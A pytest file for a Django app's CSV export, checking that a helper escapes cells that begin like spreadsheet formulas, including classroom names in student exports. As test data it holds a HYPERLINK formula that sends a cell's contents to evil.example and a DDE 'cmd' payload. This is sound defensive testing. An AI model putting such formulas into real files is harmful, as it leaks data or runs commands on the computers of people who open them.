"""Every CSV file keeps a cell that looks like a spreadsheet formula as text (sessions_app/spreadsheet.py).

The lesson CSVs, whose names students choose, are tested in tests/test_lesson_report.py.
"""

from __future__ import annotations

import csv
import io

import pytest
from session_clock import at

from sessions_app.spreadsheet import spreadsheet_safe

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("a=b", "a=b"),
        ("-1.5", "-1.5"),  # a negative number stays a number
        (-3, -3),
        ("", ""),
    ],
)
def test_it_puts_an_apostrophe_before_a_text_that_starts_like_a_formula(cell, written):
    assert spreadsheet_safe(cell) == written


def test_it_keeps_a_class_name_that_looks_like_a_formula_as_text_in_a_students_export(
    api, student, classroom, make_session
):
    classroom.name = FORMULA
    classroom.save(update_fields=["name"])
    make_session(student, classroom=classroom, started_at=at(0), ended_at=at(10))
    response = api(student).get("/api/session/history/export.csv")
    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["classroom_name"] == "'" + FORMULA


def test_it_writes_every_csv_file_of_the_site_through_the_one_helper():
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    sources = [path for folder in ("classroom", "sessions_app") for path in (root / folder).rglob("*.py")]
    writers = [path.relative_to(root).as_posix() for path in sources if "csv.writer(" in path.read_text()]
    assert writers == ["sessions_app/spreadsheet.py"]
